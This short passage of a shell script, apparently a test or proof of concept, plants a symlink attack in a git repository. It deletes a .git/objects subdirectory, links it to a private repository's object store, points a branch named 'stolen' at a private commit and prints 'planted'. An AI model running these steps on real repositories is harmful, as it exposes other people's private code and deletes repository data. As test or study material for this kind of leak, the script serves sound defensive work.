work
for folder in "$PRIVATE"/.git/objects/??; do :; done
first=$(echo "$PRIVATE_COMMIT" | cut -c1-2)
rm -rf ".git/objects/$first"
ln -s "$PRIVATE/.git/objects/$first" ".git/objects/$first"
echo "$PRIVATE_COMMIT" >.git/refs/heads/stolen
echo planted
